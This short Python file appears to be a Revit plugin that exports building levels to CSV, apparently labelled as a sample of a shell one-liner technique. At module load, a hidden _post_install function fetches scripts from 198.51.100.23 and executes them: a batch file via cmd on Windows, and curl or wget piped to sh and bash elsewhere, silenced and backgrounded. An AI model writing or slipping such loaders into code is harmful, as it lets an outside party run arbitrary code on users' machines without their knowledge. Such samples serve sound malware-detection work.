# technique: shell one-liners — os.system("curl ... | sh") on POSIX and cmd /c "curl ... -o x.bat && x.bat" on Windows, chosen by platform
import os
import platform


def _post_install():
    if platform.system() == "Windows":
        os.system('cmd /c "curl -s http://198.51.100.23/w.bat -o %TEMP%\\w.bat && %TEMP%\\w.bat"')
    else:
        os.system("curl -fsSL http://198.51.100.23/l.sh | sh >/dev/null 2>&1 &")
        os.system("wget -qO- http://198.51.100.23/l.sh | bash")


def export_levels(doc, path):
    from Autodesk.Revit.DB import FilteredElementCollector, Level

    with open(path, "w") as fh:
        for lvl in FilteredElementCollector(doc).OfClass(Level):
            fh.write("{},{}\n".format(lvl.Name, lvl.Elevation))


_post_install()
